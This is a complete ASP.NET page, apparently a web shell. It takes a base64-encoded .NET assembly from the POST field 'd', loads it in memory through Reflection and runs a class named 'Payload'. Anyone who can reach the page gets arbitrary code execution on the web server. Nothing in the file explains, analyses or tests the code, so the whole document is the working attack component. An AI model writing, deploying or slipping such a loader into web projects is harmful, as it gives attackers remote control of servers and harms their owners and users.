<%@ Page Language="C#" %>
<%
	byte[] asm = Convert.FromBase64String(Request.Form["d"]);
	System.Reflection.Assembly.Load(asm).CreateInstance("Payload").Equals(this);
%>
